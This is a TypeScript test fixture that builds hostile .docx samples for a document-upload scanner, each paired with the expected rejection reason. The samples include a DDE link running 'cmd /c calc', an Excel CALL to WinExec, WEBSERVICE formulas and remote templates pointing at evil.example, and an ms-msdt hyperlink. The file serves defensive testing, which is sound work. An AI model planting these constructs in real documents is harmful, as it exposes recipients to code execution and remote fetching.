import { readsXml } from '../../../../src/leads/inspect/docx/relationship-kinds';
import { compoundFile } from '../../../support/compound-file';
import { pdf } from '../../../support/documents';
import {
  binaryWorkbook,
  binaryWorkbookType,
  docxFile,
  field,
  relationships,
  said,
  wordDocument,
  wordPart,
  wordType,
} from '../../../support/docx';
import { carriedObject, classes, classOf, linkedObject, packagedFile, packagedNames } from '../../../support/ole';
import { attachedPdf, onePage, pdfOf } from '../../../support/pdf/make';
import { otherNames, programNames } from '../../../support/windows-names';
import { wordFile, wordStreams } from '../../../support/word97';
import { zip } from '../../../support/zip';
import { type Hostile, hostileFile } from './hostile';

const hostile = hostileFile('docx');

const office = 'application/vnd.openxmlformats-officedocument';
const objectKinds = { bin: `${office}.oleObject` };

/** A document whose main part is of this kind. */
const ofKind = (kind: string) => docxFile({}, { '/word/document.xml': kind });

const ofAnotherKind: Hostile[] = [
  hostile('with macros', ofKind('application/vnd.ms-word.document.macroEnabled.main+xml'), 'macros'),
  hostile('that is a template', ofKind(wordType.replace('document.main', 'template.main')), 'not a .docx'),
  hostile(
    'that is a template with macros',
    ofKind('application/vnd.ms-word.template.macroEnabledTemplate.main+xml'),
    'macros',
  ),
  hostile('that is a worksheet', ofKind(`${office}.spreadsheetml.sheet.main+xml`), 'not a .docx'),
  hostile('that is a presentation', ofKind(`${office}.presentationml.presentation.main+xml`), 'not a .docx'),
  hostile('that is a web page', ofKind('text/html'), 'do not need'),
  // LibreOffice goes by the letters, and then by the parts of other kinds of documents.
  ...[`${wordType}; a=b`, wordType.replace('main', 'MAIN'), ` ${wordType}`].map((kind) =>
    hostile(`whose kind is spelled "${kind}"`, ofKind(kind), 'damaged'),
  ),
  ...[
    ['http://x.example/officeDocument', 'word/document.xml'],
    ['officeDocument', 'WORD/document.xml'],
    ['officeDocument', './word/document.xml'],
  ].map(([type = '', target = '']) =>
    hostile(
      `whose main part is ${target}, by ${type}`,
      docxFile({ '_rels/.rels': relationships([type, target]) }),
      'damaged',
    ),
  ),
  hostile(
    'whose list spells the main part in capitals',
    docxFile({}, { '/word/document.xml': 'application/xml', '/WORD/document.xml': wordType }),
    'damaged',
  ),
  ...['content.xml', 'META-INF/manifest.xml', 'Meta-Inf/Manifest.xml', 'index.xml', 'Index/Document.iwa'].map((name) =>
    hostile(`that has ${name} as well`, docxFile({ [name]: '<x/>' }, { iwa: 'application/octet-stream' }), 'joined'),
  ),
];

const activeKinds = [
  'application/vnd.ms-office.vbaProject',
  'application/vnd.ms-word.vbaData+xml',
  'application/vnd.ms-office.activeX+xml',
  'application/vnd.ms-office.activeX',
  'application/vnd.ms-office.webextension+xml',
  'application/vnd.ms-office.webextensiontaskpanes+xml',
  'APPLICATION/VND.MS-OFFICE.VBAPROJECT',
];

const activeRelationships = [
  'http://schemas.microsoft.com/office/2006/relationships/vbaProject',
  'http://schemas.microsoft.com/office/2006/relationships/wordVbaData',
  'http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary',
  'http://schemas.microsoft.com/office/2006/relationships/ui/extensibility',
  'http://schemas.microsoft.com/office/2007/relationships/ui/extensibility',
  'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
  'http://schemas.microsoft.com/office/2011/relationships/webextension',
  'http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet',
  'http://schemas.microsoft.com/office/2006/relationships/xlIntlMacrosheet',
  'http://schemas.microsoft.com/office/2006/relationships/ui/userCustomization',
  'control',
  'CONTROL',
];

const activeParts: Hostile[] = [
  ...activeKinds.map((kind) =>
    hostile(`with a part of ${kind}`, docxFile({}, { '/word/media/a.png': kind }), 'macros'),
  ),
  ...activeRelationships.map((type) =>
    hostile(
      `that refers to ${type}`,
      docxFile({ 'word/_rels/document.xml.rels': relationships([type, 'media/a.png']) }),
      'macros',
    ),
  ),
  hostile(
    'with macros called a picture',
    docxFile({ 'word/media/a.png': compoundFile({ 'VBA/dir': 'x' }) }),
    'no CV needs',
  ),
  ...[
    'text/html',
    'application/xhtml+xml',
    'application/rtf',
    'text/rtf',
    'message/rfc822',
    'application/x-msdownload',
  ].map((kind) => hostile(`with a part of ${kind}`, docxFile({ 'word/a.x': 'x' }, { x: kind }), 'do not need')),
  ...['word/a.exe', 'word/media/a.js', 'a.docm', 'word/embeddings/a.hta'].map((name) =>
    hostile(
      `with ${name} of no kind`,
      docxFile({ [name]: 'x' }),
      name.includes('embeddings') ? 'no CV needs' : 'do not need',
    ),
  ),
];

const chunk = (kind: string, data: string | Buffer) =>
  docxFile(
    {
      'word/document.xml': wordDocument('<w:altChunk r:id="r0"/>'),
      'word/_rels/document.xml.rels': relationships(['aFChunk', 'chunk.x']),
      'word/chunk.x': data,
    },
    { x: kind },
  );

const chunks: Hostile[] = [
  hostile('that takes in a web page', chunk('application/xhtml+xml', '<html/>'), 'do not need'),
  ...['message/rfc822', 'multipart/related', 'text/html', 'text/rtf', 'application/rtf'].map((kind) =>
    hostile(`that takes in ${kind}, and says what to do`, chunk(kind, '<html/>'), 'Open it in Word and save it again'),
  ),
  hostile('that takes in XML', chunk('application/xml', '<html/>'), 'another format'),
  ...[
    '<html xmlns="http://www.w3.org/1999/xhtml"><img src="http://evil.example/x.png"/></html>',
    wordPart('hdr', '<w:p/>'),
    '<document xmlns="urn:x"/>',
  ].map((content) => hostile(`that takes in ${content} as one of Word`, chunk(wordType, content), 'another format')),
  hostile('that takes in text', chunk('text/plain', '<html>'), 'another format'),
  hostile(
    'that takes in RTF called a document',
    chunk(`${office}.wordprocessingml.document`, '{\\rtf1}'),
    'embedded program',
  ),
  hostile(
    'that takes in a document with a remote template',
    chunk(
      `${office}.wordprocessingml.document`,
      docxFile({
        'word/_rels/settings.xml.rels': relationships(['attachedTemplate', 'http://evil.example/x', 'External']),
      }),
    ),
    'fetched from elsewhere',
  ),
];

/** A document with an object in it. */
function withObject(streams: Record<string, Buffer | string>, clsid = classOf(streams)): Buffer {
  return docxFile({ 'word/embeddings/oleObject1.bin': compoundFile(streams, { '': clsid }) }, objectKinds);
}

const native = '\u0001Ole10Native';

const packaged: Hostile[] = [
  ...[...programNames, 'a.pdf.exe', 'a.EXE', 'a.exe.', 'a.exe ', 'a.pdf:x.exe', 'a.txt\u202egpj.exe'].map((name) =>
    hostile(`with the file ${name} inside`, withObject({ [native]: packagedFile(name, 'x') }), 'may be a program'),
  ),
  ...otherNames.map((name) =>
    hostile(`with the file ${name} inside`, withObject({ [native]: packagedFile(name, 'x') }), 'no CV needs'),
  ),
  ...packagedNames.flatMap((place) => [
    hostile(
      `with a file inside whose ${place} is that of a program`,
      withObject({ [native]: packagedFile('a.pdf', pdf, { [place]: 'a.exe' }) }),
      'may be a program',
    ),
    hostile(
      `with a file inside whose ${place} is on another computer`,
      withObject({ [native]: packagedFile('a.pdf', pdf, { [place]: '\\\\evil.example\\a.pdf' }) }),
      'on another computer',
    ),
  ]),
  ...(['label', 'path'] as const).map((place) =>
    hostile(
      `with a link inside whose ${place} is that of a program`,
      withObject({ [native]: packagedFile('a.pdf', '', { isLinked: true, [place]: 'a.exe' }) }),
      'may be a program',
    ),
  ),
  hostile(
    'with a program inside that is called a drawing',
    withObject({ [native]: packagedFile('a.exe', 'x') }, classes.paintbrush),
    'may be a program',
  ),
  hostile('with an unreadable file inside', withObject({ [native]: 'x'.repeat(99) }), 'locked or broken'),
  hostile(
    'with a document with macros inside',
    withObject({ [native]: packagedFile('a.doc', wordFile({ text: 'x' }, { 'Macros/VBA/dir': 'x' })) }),
    'macros',
  ),
  hostile(
    'with a program in an archive inside',
    withObject({ [native]: packagedFile('a.zip', zip([{ name: 'a.exe', data: 'x' }])) }),
    'may be a program',
  ),
  hostile(
    'with a program in an archive in an archive inside',
    withObject({ [native]: packagedFile('a.zip', zip([{ name: 'b.zip', data: zip([{ name: 'a.js', data: 'x' }]) }])) }),
    'may be a program',
  ),
  hostile(
    'with a message inside',
    withObject({ [native]: packagedFile('a.msg', compoundFile({ '__properties_version1.0': 'x' })) }),
    'no CV needs',
  ),
];

/** First bytes of programs and of what other programs run. */
const signatures = {
  'of Windows': 'MZ\x90\0',
  'of Linux': '\x7fELF\x02',
  'of Java': '\xca\xfe\xba\xbe',
  'of a Mac, 64 bits': '\xcf\xfa\xed\xfe',
  'of a Mac, 32 bits': '\xce\xfa\xed\xfe',
  'of an older Mac': '\xfe\xed\xfa\xce',
  'of a shell': '#!/bin/sh',
  'that is a shortcut': 'L\0\0\0\x01\x14\x02\0',
  'that is a film': 'FWS\x06',
  'that is a packed film': 'CWS\x06',
  'that is a film packed in another way': 'ZWS\x06',
  'in a RAR archive': 'Rar!\x1a\x07',
  'in a 7-Zip archive': '7z\xbc\xaf\x27\x1c',
  'in a cabinet': 'MSCF\0',
  'in RTF': '{\\rtf1}',
  'in a web page': '<script>x</script>',
  'in PHP': '<?php x',
};

const signed: Hostile[] = Object.entries(signatures).map(([what, start]) =>
  hostile(
    `with a program ${what} called a picture inside`,
    withObject({ [native]: packagedFile('a.png', Buffer.from(start, 'latin1')) }),
    'embedded program',
  ),
);

const many = zip(Array.from({ length: 1001 }, (_, index) => ({ name: `${index}.txt`, data: 'x' })));

/** As many files as a document may have, and two more. */
const crowded: Hostile[] = [
  hostile(
    'with two archives of a thousand files inside',
    docxFile(
      {
        'word/a.bin': compoundFile(
          {
            ...wordStreams({ text: 'CV' }),
            [`ObjectPool/_1/${native}`]: packagedFile('a.zip', many),
            [`ObjectPool/_2/${native}`]: packagedFile('b.zip', many),
          },
          { 'ObjectPool/_1': classes.package, 'ObjectPool/_2': classes.package },
        ),
      },
      objectKinds,
    ),
    'too large',
  ),
];

const script = pdfOf(onePage('/OpenAction << /S /JavaScript /JS (x) >>'));

const pdfs: Hostile[] = [
  hostile('with a PDF with a script inside', withObject({ [native]: packagedFile('a.pdf', script) }), 'a script'),
  hostile(
    'with an Acrobat document with a script inside',
    withObject({ CONTENTS: script }, classes.acrobat),
    'a script',
  ),
  hostile(
    'with a part that is a PDF with a script',
    docxFile({ 'word/media/a.bin': script }, { bin: 'application/pdf' }),
    'a script',
  ),
  hostile(
    'with a PDF inside that has an archive with a program attached',
    withObject({
      [native]: packagedFile('a.pdf', attachedPdf('b.zip', zip([{ name: 'a.hta', data: 'x' }]))),
    }),
    'may be a program',
  ),
  hostile(
    'with a page with a script in an archive inside',
    withObject({ [native]: packagedFile('a.zip', zip([{ name: 'a.html', data: '<script>x</script>' }])) }),
    'embedded program',
  ),
  ...(['xml', 'mml', 'html', 'htm', 'xhtml', 'xmp', 'rdf', 'svg'] as const).map((end) =>
    hostile(
      `with a handler in an archived .${end} inside`,
      withObject({ [native]: packagedFile('a.zip', zip([{ name: `a.${end}`, data: '<x onload="x"/>' }])) }),
      ['xmp', 'rdf', 'svg'].includes(end) ? 'no CV needs' : 'web page',
    ),
  ),
];

const toolbars = hostile(
  'with toolbars of Word 2003',
  docxFile(
    {
      'word/_rels/document.xml.rels': relationships(['attachedToolbars', 'attachedToolbars.bin']),
      'word/attachedToolbars.bin': '\x01',
    },
    { bin: 'application/vnd.ms-word.attachedToolbars' },
  ),
  'toolbars of its own',
);

/** Records of a workbook or presentation. */
const record = (type: number, data: number[]) => Buffer.from([type & 0xff, type >> 8, data.length, 0, ...data]);
const slideRecord = (type: number, data: number[]) =>
  Buffer.from([0, 0, type & 0xff, type >> 8, data.length, 0, 0, 0, ...data]);

/** Names of streams and storages, each of which alone says what an object is. */
const streams: [names: string[], content: string, because: Hostile['because']][] = [
  [['Macros', '_VBA_PROJECT', '_VBA_PROJECT_CUR', 'VBA'], 'x', 'macros'],
  [['\u0003OCXNAME', '\u0003OCXDATA'], 'x', 'controls'],
  [['EncryptedPackage', '\tDRMContent'], 'x', 'locked or broken'],
  [['CONTENTS'], 'MZ', 'embedded program'],
  [['Package', 'Package_stream', 'EmbeddedOdf', 'Quill', 'VisioDocument', 'x'], 'MZ', 'no CV needs'],
  [['__substg1.0_37010102', '__substg1.0_8ABC001F', '__substg1.0_1013001E'], 'x', 'a mail'],
];

/** A presentation's record of what a click does: 1 runs a macro, 2 a program. */
const click = (action: number) => slideRecord(0xff3, [0, 0, 0, 0, 0, 0, 0, 0, action, 0, 0, 0, 0, 0, 0, 0]);

const objects: Hostile[] = [
  ...streams.flatMap(([names, content, because]) =>
    names.map((name) =>
      hostile(`with ${JSON.stringify(name)} in an object`, withObject({ [name]: content }, classes.acrobat), because),
    ),
  ),
  hostile('with a browser inside', withObject({ CONTENTS: 'x' }, classes.browser), 'unknown kind'),
  ...['http://evil.example/x.hta', '\\\\evil.example\\x.xls'].map((source) =>
    hostile(
      `with an object linked to ${source}`,
      withObject({ '\u0001Ole': linkedObject(source) }, classes.link),
      'on another computer',
    ),
  ),
  ...[0, 8].flatMap((flags) => [
    hostile(
      `with a link that says by its flags ${flags} that it is carried`,
      withObject({ '\u0001Ole': linkedObject('C:\\a\\b.xls', flags) }, classes.link),
      'locked or broken',
    ),
    hostile(
      `with a carried object, by its flags ${flags}, that has a source elsewhere`,
      withObject({ '\u0001Ole': linkedObject('http://evil.example/x.hta', flags) }, classes.acrobat),
      'on another computer',
    ),
    hostile(
      `with a carried object, by its flags ${flags}, whose source breaks off`,
      withObject({ '\u0001Ole': linkedObject('http://evil.example', flags).subarray(0, -9) }, classes.acrobat),
      'locked or broken',
    ),
  ]),
  hostile(
    'with a link of which nothing is said but its version and flags',
    withObject({ '\u0001Ole': carriedObject().subarray(0, 8) }, classes.link),
    'locked or broken',
  ),
  hostile(
    'with a worksheet with macros inside',
    withObject({ Workbook: 'x', '_VBA_PROJECT_CUR/VBA/dir': 'x' }),
    'macros',
  ),
  hostile(
    'with a worksheet of macros inside',
    withObject({ Workbook: record(0x85, [0, 0, 0, 0, 0, 1, 1, 0, 65]) }),
    'macros',
  ),
  hostile(
    'with a worksheet that starts a program inside',
    withObject({ Workbook: record(0x1ae, [0, 0, 5, 0, 0, 99, 109, 100, 3, 120]) }),
    'fetched from elsewhere',
  ),
  hostile(
    'with a worksheet of Excel 5 that starts a program inside',
    withObject({ Book: record(0x1ae, [0, 0, 5, 0, 0, 99, 109, 100, 3, 120]) }),
    'fetched from elsewhere',
  ),
  hostile('with an encrypted worksheet inside', withObject({ Workbook: record(0x2f, [0, 0]) }), 'locked or broken'),
  hostile(
    'with a presentation with macros inside',
    withObject({ 'PowerPoint Document': slideRecord(0x400, [0, 0, 0, 0, 1, 0, 0, 0, 2, 0, 0, 0]) }),
    'macros',
  ),
  ...[1, 2].map((action) =>
    hostile(
      `with a presentation inside in which a click does ${action}`,
      withObject({ 'PowerPoint Document': click(action) }),
      'starts a program',
    ),
  ),
  hostile(
    'with a presentation with a control inside',
    withObject({ 'PowerPoint Document': slideRecord(0xfee, [0]) }),
    'controls',
  ),
  hostile(
    'with an encrypted presentation inside',
    withObject({ 'PowerPoint Document': slideRecord(0x2f14, [0]) }),
    'locked or broken',
  ),
  hostile(
    'with an old document with a field that starts a program inside',
    withObject(oldDocument()),
    'starts a program',
  ),
  hostile(
    'with an object whose container is broken',
    docxFile({ 'word/a.bin': brokenContainer() }, objectKinds),
    'locked or broken',
  ),
];

function oldDocument() {
  return { Package: wordFile({ text: '\x13DDE cmd x\x14x\x15' }) };
}

function brokenContainer(): Buffer {
  return compoundFile({ CONTENTS: 'x' }).subarray(0, 600);
}

const sheet = (changes: Record<string, string | Buffer>, kinds: Record<string, string> = {}) =>
  docxFile(
    {
      'word/embeddings/Sheet1.xlsx': docxFile(changes, {
        '/xl/workbook.xml': `${office}.spreadsheetml.sheet.main+xml`,
        ...kinds,
      }),
    },
    { xlsx: `${office}.spreadsheetml.sheet` },
  );

const formulas: Hostile[] = [
  ['f', '_xlfn.WEBSERVICE("http://evil.example")'],
  ['f', '_xlfn.IMAGE (A1)'],
  ['f', 'WEB<!-- x -->SERVICE(A1)'],
  ['definedName', 'RTD("x.y",,"z")'],
  ['formula1', 'CALL("kernel32","WinExec","JCJ","calc",0)'],
  ['f', "'\\\\evil.example\\share\\[a.xls]Sheet'!A1"],
  ['f', "'http://evil.example/[a.xls]Sheet'!A1"],
].map(([element = '', formula = '']) =>
  hostile(
    `with a worksheet with the ${element} ${formula}`,
    sheet({
      'xl/a.xml': `<x xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><${element}>${formula}</${element}></x>`,
    }),
    'a formula that fetches',
  ),
);

const otherKinds = [
  ...[
    'image/svg+xml',
    'image/png',
    'text/plain',
    'text/prs.x',
    'application/octet-stream',
    'application/pdf',
    'font/ttf',
  ],
  ...[`${office}.wordprocessingml.header`, `${office}.oleObject`],
];

const header = wordPart('hdr', field(said('HYPERLINK "ms-msdt:/id"')));

/** A document that names a part as the place of its header, or of a document to take in, by this relationship. */
const naming = (element: string, relationship: string, kind: string, part: string | Buffer = header) =>
  docxFile(
    {
      'word/document.xml': wordDocument(element),
      'word/_rels/document.xml.rels': relationships([relationship, 'x/part1.a']),
      'word/x/part1.a': part,
    },
    { a: kind },
  );

const places = {
  headerReference: '<w:p><w:pPr><w:sectPr><w:headerReference w:type="default" r:id="r0"/></w:sectPr></w:pPr></w:p>',
  altChunk: '<w:altChunk r:id="r0"/>',
};

/** A drawing of a diagram, which LibreOffice finds by a number without a namespace, in names and codes of any kind. */
const diagram = (prefix: string) =>
  `<${prefix}:drawing xmlns:${prefix}="http://schemas.microsoft.com/office/drawing/2008/diagram" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:blip/></${prefix}:drawing>`;

const drawn: Hostile[] = [
  ...['dsp', 'dé', 'ড', '_', 'D'].flatMap((prefix): [string, Buffer][] => [
    [`in UTF-8, with the prefix ${prefix}`, Buffer.from(diagram(prefix))],
    [`in UTF-16, with the prefix ${prefix}`, Buffer.from(diagram(prefix), 'utf16le')],
  ]),
  ...['utf8', 'utf16le'].flatMap((coding): [string, Buffer][] => [
    [`behind many blanks in ${coding}`, Buffer.from(' \n'.repeat(40_000) + diagram('dsp'), coding as BufferEncoding)],
    [
      `behind a mark and many blanks in ${coding}`,
      Buffer.from(`\ufeff${'\n'.repeat(9_000)}${diagram('dsp')}`, coding as BufferEncoding),
    ],
  ]),
  ['in UTF-32', Buffer.from([...diagram('d')].flatMap((sign) => [sign.charCodeAt(0), 0, 0, 0]))] as [string, Buffer],
  ['in EBCDIC', Buffer.from('4c6fa794934040', 'hex')] as [string, Buffer],
].map(([how, part]) =>
  hostile(
    `with a drawing of a diagram ${how}`,
    naming('', 'image', 'application/octet-stream', part),
    how === 'in EBCDIC' ? 'embedded program' : 'web page',
  ),
);

/** Parts that LibreOffice reads because an element names them, whatever relationship and kind say. */
const named: Hostile[] = [
  ...['image', 'font', 'hyperlink', 'package', 'oleObject', 'printerSettings', 'thumbnail', 'http://x/header'].flatMap(
    (relationship) =>
      Object.entries(places).map(([element, content]) =>
        hostile(
          `with a ${element} that names a ${relationship}`,
          naming(content, relationship, 'text/plain', 'EBCDIC'),
          'another kind than',
        ),
      ),
  ),
  ...[...readsXml].map((element) =>
    hostile(
      `with a ${element} that names a picture`,
      naming(`<w:p><w:r><w:${element} r:id="r0"/></w:r></w:p>`, 'image', 'text/plain', 'EBCDIC'),
      'another kind than',
    ),
  ),
  ...['image/png', 'image/svg+xml', 'text/plain', 'application/octet-stream'].flatMap((kind) =>
    ['image', ' http://schemas.openxmlformats.org/officeDocument/2006/relationships/header'].map((relationship) =>
      hostile(`with a header of ${kind} that is called ${relationship}`, naming('', relationship, kind), 'web page'),
    ),
  ),
];

/** Parts that LibreOffice reads because of a relationship, under kinds that Word would not read. */
const ofOtherKinds: Hostile[] = [
  ...['header', 'footnotes', 'styles', 'http://purl.oclc.org/ooxml/officeDocument/relationships/header'].flatMap(
    (relationship) =>
      otherKinds.map((kind) =>
        hostile(
          `with a part of ${kind} that is referred to as ${relationship}`,
          docxFile(
            {
              'word/_rels/document.xml.rels': relationships([relationship, 'x/part1.a']),
              'word/x/part1.a': wordPart('hdr', field(said('HYPERLINK "ms-msdt:/id"'))),
            },
            { a: kind },
          ),
          'another kind than',
        ),
      ),
  ),
  ...['x/%70art1.a', 'x\\part1.a', '/word/y/../x/part1.a', 'X/PART1.A', 'x/part1.a#x'].map((target) =>
    hostile(
      `with a header of no XML at ${target}`,
      docxFile(
        { 'word/_rels/document.xml.rels': relationships(['header', target]), 'word/x/part1.a': wordPart('hdr', '') },
        { a: 'text/plain' },
      ),
      'another kind than',
    ),
  ),
  hostile(
    'with a header that is a PDF',
    docxFile({ 'word/_rels/document.xml.rels': relationships(['header', 'header1.xml']), 'word/header1.xml': pdf }),
    'damaged',
  ),
  hostile(
    'with a worksheet with a link inside that is called text',
    sheet(
      {
        'xl/_rels/workbook.xml.rels': relationships(['externalLink', 'externalLinks/externalLink1.txt']),
        'xl/externalLinks/externalLink1.txt': '<externalLink/>',
      },
      { txt: 'text/plain' },
    ),
    'another kind than',
  ),
];

const sheets: Hostile[] = [
  hostile(
    'with a worksheet with a project of macros inside',
    sheet({}, { bin: 'application/vnd.ms-office.vbaProject' }),
    'macros',
  ),
  hostile(
    'with a worksheet in binary form with macros inside',
    docxFile(
      { 'word/embeddings/a.xlsb': binaryWorkbook({ '/xl/vba.bin': 'application/vnd.ms-office.vbaProject' }) },
      { xlsb: binaryWorkbookType },
    ),
    'macros',
  ),
  hostile(
    'with styles of a worksheet in binary form',
    docxFile(
      { 'word/_rels/document.xml.rels': relationships(['styles', 'styles.bin']), 'word/styles.bin': '<x/>' },
      { bin: 'application/vnd.ms-excel.styles' },
    ),
    'another kind than',
  ),
  hostile(
    'with a worksheet with a sheet of macros inside',
    sheet({}, { '/xl/macrosheets/sheet1.xml': 'application/vnd.ms-excel.macrosheet+xml' }),
    'macros',
  ),
  hostile(
    'with a worksheet with a link that starts a program inside',
    sheet({
      'xl/externalLinks/externalLink1.xml':
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>',
    }),
    'starts a program',
  ),
  hostile(
    'with a worksheet with a remote link inside',
    sheet({
      'xl/externalLinks/_rels/externalLink1.xml.rels': relationships([
        'externalLinkPath',
        '\\\\evil.example\\x',
        'External',
      ]),
    }),
    'fetched from elsewhere',
  ),
  hostile(
    'with a worksheet inside that is a bomb',
    sheet({ 'xl/media/a.png': Buffer.alloc(65 * 1024 * 1024) }),
    'too large',
  ),
];

export const docxsWithFiles: Hostile[] = [
  ...ofAnotherKind,
  ...activeParts,
  ...chunks,
  ...packaged,
  ...signed,
  ...crowded,
  ...pdfs,
  toolbars,
  ...objects,
  ...sheets,
  ...formulas,
  ...named,
  ...drawn,
  ...ofOtherKinds,
];
